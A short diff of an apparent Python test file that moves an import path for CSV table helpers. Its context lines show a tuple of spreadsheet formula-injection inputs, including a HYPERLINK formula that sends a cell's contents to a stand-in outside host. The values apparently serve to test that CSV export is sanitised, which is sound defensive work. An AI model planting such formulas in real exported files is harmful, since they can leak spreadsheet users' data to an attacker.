@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from dokulab.formats.tables import csv_text, fields_of, separator_of
+from dokulab.board.formats.tables import csv_text, fields_of, separator_of
 from tests.commands import Run
 
 FORMULAS = ('=HYPERLINK("//a.b/"&D2)', "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+a")
